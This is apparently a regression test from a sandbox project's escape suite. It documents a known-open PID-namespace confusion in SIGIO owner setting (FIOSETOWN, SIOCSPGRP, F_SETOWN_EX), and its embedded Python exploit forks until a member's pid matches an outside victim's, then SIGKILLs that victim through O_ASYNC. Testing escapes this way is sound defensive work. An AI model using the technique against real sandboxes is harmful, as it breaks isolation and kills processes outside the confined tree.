#!/bin/sh
# FIOSETOWN / SIOCSPGRP / F_SETOWN_EX under CAPWATCH_KERNEL_READS=1: the
# tree's own PID namespace numbers its members from 1, and capwatch sets
# the SIGIO owner itself, on its duplicate of the descriptor (ioctl.c
# set_owner, proc.c do_setown_ex), with the number the command gave. The
# decision reads that number in the tree's namespace (a member: allowed),
# the kernel reads it in capwatch's (f_setown: find_vpid of the caller):
# a member whose namespace pid equals the host pid of a process outside
# the tree makes that process the owner, and F_SETSIG(SIGKILL) + O_ASYNC
# kills it. The victim, a sleep this test starts at a low host pid
# (ns_last_pid), must survive; the tree forks until a member has the same
# number in its namespace. Known open (KNOWN-OPEN.md).
. "$top_srcdir/tests/escapes/lib.sh"
esc_setup
[ "$(id -u)" = 0 ] || skip "needs root (the kernel back end, ns_last_pid)"
CAPWATCH_KERNEL_READS=1
export CAPWATCH_KERNEL_READS
cat >"$T/own.py" <<'PY'
import fcntl, os, signal, socket, struct, sys, time
V, how, fork = int(sys.argv[1]), sys.argv[2], sys.argv[3] == "fork"
kid = 0
if fork:
    # A member numbered V in the tree's namespace.
    for _ in range(40000):
        p = os.fork()
        if p == 0:
            if os.getpid() == V:
                signal.pause()
            os._exit(0)
        if p == V:
            kid = p
            break
        os.waitpid(p, 0)
    print("member", kid, flush=True)
    if not kid:
        sys.exit(2)
a, b = socket.socketpair()
try:
    if how == "setown_ex":
        fcntl.fcntl(a.fileno(), 15, struct.pack("ii", 0, V))  # F_SETOWN_EX, F_OWNER_TID
    else:
        fcntl.ioctl(a.fileno(), {"fiosetown": 0x8901, "siocspgrp": 0x8902}[how], struct.pack("i", V))
except OSError as e:
    print("setown failed", e.errno, flush=True)
    sys.exit(0)
fcntl.fcntl(a.fileno(), 10, 9)  # F_SETSIG: SIGKILL
fcntl.fcntl(a.fileno(), fcntl.F_SETFL, fcntl.fcntl(a.fileno(), fcntl.F_GETFL) | os.O_ASYNC)
b.send(b"x")
time.sleep(0.3)
print("sent", flush=True)
if kid:
    os.kill(kid, signal.SIGKILL)
PY
# A victim at a low, free host pid: the tree reaches it in a few forks.
low_victim() {
	_v=
	for _p in $(seq 300 2000); do [ -e "/proc/$_p" ] || { _v=$_p; break; }; done
	[ -n "$_v" ] || skip "no free pid in 300-2000"
	echo $((_v - 1)) >/proc/sys/kernel/ns_last_pid 2>/dev/null || skip "cannot write ns_last_pid"
	victim_start sleep 60
	[ "$VICTIM_PID" = "$_v" ] || { esc_kill "$VICTIM_PID"; return 1; }
}
victim() { _n=0; until low_victim; do _n=$((_n + 1)); [ $_n -gt 5 ] && skip "the victim did not get the pid chosen"; done; }

bad=
for how in fiosetown siocspgrp setown_ex; do
	victim
	bare "$PY" "$T/own.py" "$VICTIM_PID" $how direct
	sleep 0.2
	victim_alive && esc_control_failed "$how: bare, the victim survived its SIGIO owner's SIGKILL: $(cat "$O/bare.out")"
	victim
	under readonly -- "$PY" "$T/own.py" "$VICTIM_PID" $how fork
	esc_pidns || skip "no PID namespace under CAPWATCH_KERNEL_READS=1 here"
	grep -q "^member $VICTIM_PID" "$OUT" || fail "$how: the tree did not get a member numbered $VICTIM_PID: $(cat "$OUT")"
	sleep 0.2
	victim_alive || bad="$bad; $how: the victim $VICTIM_PID outside the tree was SIGKILLed through a member with the same number in the tree's namespace ($(tr '\n' ' ' <"$OUT"))"
	esc_kill "$VICTIM_PID"
done
[ -z "$bad" ] || esc_bypass "${bad#; }"
exit 0
